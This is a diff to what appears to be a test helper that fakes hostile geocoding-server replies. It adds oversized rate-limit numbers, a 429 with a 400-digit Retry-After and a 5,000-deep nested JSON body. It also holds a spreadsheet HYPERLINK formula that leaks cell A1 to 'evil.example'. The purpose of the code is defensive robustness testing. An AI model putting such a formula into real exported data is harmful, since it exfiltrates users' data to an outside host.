@@ -15,10 +15,12 @@ mode                the answer (HTTP 200 unless said)
 ``out_of_range``    latitude 123, longitude 500
 ``formula``         the formatted address is a spreadsheet formula
 ``nul``             the formatted address holds a NUL byte
+``bad_rate``        the normal answer with a ``rate`` block and rate headers past any float
+``bad_throttle``    HTTP 429, ``Retry-After`` of 400 digits, a body nested 5,000 deep
 =================== ===========================================================================
 
-The formula and NUL modes are valid answers: the client must take them, and escape or clean
-what it writes.
+The formula, NUL and bad_rate modes are valid answers: the client must take them (and escape
+or clean what it writes, ignore rate figures it cannot read).
 """
 
 from __future__ import annotations
@@ -43,6 +45,8 @@ HOSTILE_MODES: tuple[str, ...] = (
     "out_of_range",
     "formula",
     "nul",
+    "bad_rate",
+    "bad_throttle",
 )
 HUGE_BYTES = 200 * 1000 * 1000
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'
@@ -100,6 +104,18 @@ def hostile_reply(
         return replace(normal, body=head, filler=filler, repeat=huge_bytes // len(filler))
     if mode == "trickle":
         return replace(normal, trickle=TRICKLE_SECONDS)
+    if mode == "bad_throttle":
+        headers = {"Retry-After": "9" * 400, "X-RateLimit-Reset": "9" * 400}
+        return Reply(429, b"[" * DEPTH + b"]" * DEPTH, normal.content_type, headers)
+    too_big = "9" * 400
+    if mode == "bad_rate":
+        headers = {"X-RateLimit-Remaining": too_big, "X-RateLimit-Reset": "1e999"}
+        body = normal.body
+        if dialect.kind != "nominatim":  # a page that is an object can carry a rate block
+            page = json.loads(body)
+            page["rate"] = {"limit": 1, "remaining": int(too_big), "reset": int(too_big)}
+            body = json.dumps(page, ensure_ascii=False).encode("utf-8")
+        return replace(normal, body=body, headers=headers)
     page = json.loads(normal.body)
     key = _RESULTS[dialect.kind]
     results = page if key is None else page[key]
